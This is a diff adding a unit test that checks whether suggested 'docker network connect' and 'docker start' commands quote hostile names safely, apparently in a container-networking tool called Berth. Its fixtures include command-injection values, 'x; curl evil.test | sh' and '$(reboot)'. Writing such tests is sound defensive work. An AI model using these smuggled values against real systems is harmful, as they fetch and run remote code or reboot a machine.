@@ -181,6 +181,18 @@ describe('the way to a port of a container', () => {
     expect(refusalOf({ ...inside, container: { networks: [host] } })[0]).toBe('no-network');
   });
 
+  it('is told without a command that a name breaks out of', () => {
+    const odd = { ...bridge, name: 'x; curl evil.test | sh', addresses: ['172.19.0.3'] };
+    const name = '$(reboot)';
+    expect(refusalOf({ ...inside, container: { networks: [odd] } })[2]).toBe(
+      "docker network connect 'x; curl evil.test | sh' berth",
+    );
+    expect(refusalOf({ container: { name, networks: [odd] } })[2]).toBe(
+      "docker network connect bridge '$(reboot)'",
+    );
+    expect(refusalOf({ container: { name, state: 'exited' } })[2]).toBe("docker start '$(reboot)'");
+  });
+
   it('is that of the machine when Berth is in a container on the network of that', () => {
     const others = [aContainer({ id: 'be57'.padEnd(64, '0'), name: 'berth', networks: [host] })];
     expect(urlOf({ machine: { container: 'be57' }, others })).toBe('http://172.18.0.3:80');
